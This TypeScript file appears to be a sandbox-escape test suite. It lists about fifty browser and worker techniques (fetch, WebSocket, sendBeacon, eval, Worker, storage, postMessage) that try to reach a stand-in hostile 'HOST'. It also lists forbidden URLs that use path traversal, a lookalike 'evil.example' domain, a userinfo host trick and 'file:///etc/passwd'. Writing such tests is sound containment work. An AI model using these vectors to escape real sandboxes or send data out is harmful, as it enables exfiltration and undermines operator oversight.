/**
 * Ways out of a room, as TypeScript that tries each: it prints `out` where it got through, else what kept it in. `HOST` stands
 * for a hostile server's.
 */
export const waysOut: readonly (readonly [name: string, code: string])[] = [
  // The network.
  ['fetch', `await fetch('http://HOST/fetch'); console.log('out');`],
  [
    'fetch without cors',
    `await fetch('http://HOST/no-cors', { mode: 'no-cors' }); console.log('out');`,
  ],
  ['fetch of the site', `await fetch(new URL('/', import.meta.url.slice(5))); console.log('out');`],
  [
    'XMLHttpRequest',
    `const x = new XMLHttpRequest(); x.open('GET', 'http://HOST/xhr', false); x.send(); console.log('out');`,
  ],
  ['WebSocket', `new WebSocket('ws://HOST/socket'); console.log('out');`],
  ['WebSocketStream', `await new WebSocketStream('ws://HOST/stream').opened; console.log('out');`],
  ['EventSource', `new EventSource('http://HOST/events'); console.log('out');`],
  ['WebTransport', `await new WebTransport('https://HOST/transport').ready; console.log('out');`],
  [
    'RTCPeerConnection',
    `new RTCPeerConnection({ iceServers: [{ urls: 'stun:HOST' }] }).createDataChannel('x'); console.log('out');`,
  ],
  ['sendBeacon', `navigator.sendBeacon('http://HOST/beacon', 'x'); console.log('out');`],
  ['fetchLater', `fetchLater('http://HOST/later'); console.log('out');`],
  ['FontFace', `await new FontFace('x', 'url(http://HOST/font)').load(); console.log('out');`],
  ['importScripts', `importScripts('http://HOST/scripts.js'); console.log('out');`],
  ['import', `const at = 'http://HOST/module.js'; await import(at); console.log('out');`],
  [
    'import of data',
    `const at = 'data:text/javascript,export default 1'; await import(at); console.log('out');`,
  ],
  [
    'import of the site',
    `const at = new URL(import.meta.url.slice(5)).origin + '/_astro/x.js'; await import(at); console.log('out');`,
  ],
  [
    'import in a blob',
    `const at = URL.createObjectURL(new Blob(['import "http://HOST/blob.js"'], { type: 'text/javascript' })); await import(at); console.log('out');`,
  ],
  [
    'a style sheet module',
    `const at = 'http://HOST/style.css'; await import(at, { with: { type: 'css' } } as never); console.log('out');`,
  ],
  [
    'the fetch that was',
    `const real = Object.getOwnPropertyDescriptor(Object.getPrototypeOf(Object.getPrototypeOf(self)), 'fetch')!.value; await real('http://HOST/was'); console.log('out');`,
  ],
  // Code from text.
  ['eval', `(0, eval)('1'); console.log('out');`],
  ['Function', `new Function('return 1')(); console.log('out');`],
  ['the constructor of a function', `(() => {}).constructor('return 1')(); console.log('out');`],
  ['an async function', `await (async () => {}).constructor('return 1')(); console.log('out');`],
  [
    'a generator function',
    `(function* () {}).constructor('yield 1')().next(); console.log('out');`,
  ],
  [
    'a timer with text',
    `setTimeout('globalThis.ran = true' as never); await new Promise((done) => setTimeout(done, 50)); if (ran) console.log('out');`,
  ],
  [
    'WebAssembly',
    `await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); console.log('out');`,
  ],
  // Other realms.
  ['Worker', `new Worker('http://HOST/worker.js'); console.log('out');`],
  ['Worker of a blob', `new Worker(URL.createObjectURL(new Blob(['1']))); console.log('out');`],
  ['SharedWorker', `new SharedWorker('/x.js'); console.log('out');`],
  ['ShadowRealm', `new ShadowRealm().evaluate('1'); console.log('out');`],
  ['a service worker', `await navigator.serviceWorker.register('/x.js'); console.log('out');`],
  // Storage.
  ['IndexedDB', `indexedDB.open('x'); console.log('out');`],
  ['caches', `await caches.open('x'); console.log('out');`],
  ['the private file system', `await navigator.storage.getDirectory(); console.log('out');`],
  ['localStorage', `localStorage.setItem('x', '1'); console.log('out');`],
  ['sessionStorage', `sessionStorage.setItem('x', '1'); console.log('out');`],
  ['cookieStore', `await cookieStore.set('x', '1'); console.log('out');`],
  ['webkitRequestFileSystem', `webkitRequestFileSystem(0, 1, () => 0); console.log('out');`],
  // Channels.
  ['BroadcastChannel', `new BroadcastChannel('x').postMessage(1); console.log('out');`],
  ['locks', `await navigator.locks.request('x', () => 1); console.log('out');`],
  ['postMessage', `self.postMessage({ type: 'exit', code: 0 }); console.log('out');`],
  [
    'postMessage of the prototype',
    `DedicatedWorkerGlobalScope.prototype.postMessage.call(self, { type: 'exit', code: 0 }); console.log('out');`,
  ],
  [
    'postMessage up the chain',
    `for (let o: object | null = self; o; o = Object.getPrototypeOf(o)) if ('postMessage' in o) console.log('out');`,
  ],
  ['MessageChannel', `new MessageChannel().port1.postMessage(1); console.log('out');`],
  ['Notification', `new Notification('x'); console.log('out');`],
  ['close', `self.close(); console.log('out');`],
  // Devices and clocks.
  ['navigator', `console.log(navigator.userAgent, 'out');`],
  ['SharedArrayBuffer', `new SharedArrayBuffer(1); console.log('out');`],
  ['location', `console.log(location.href, 'out');`],
  [
    'permissions',
    `await navigator.permissions.query({ name: 'notifications' }); console.log('out');`,
  ],
];

/** Requests that the page must not make, each sent by the one way that there is. */
export const otherAddresses: readonly string[] = [
  'http://HOST/v1/models',
  'https://api.openai.com/v1/models',
  'https://api.aimlapi.com/v2/billing',
  'https://api.aimlapi.com/v1/../v2/billing',
  'https://api.aimlapi.com/v1/..%2fv2/billing',
  'https://api.aimlapi.com.evil.example/v1/models',
  'https://api.aimlapi.com@HOST/v1/models',
  'http://api.aimlapi.com/v1/models',
  'data:text/plain,x',
  'file:///etc/passwd',
];
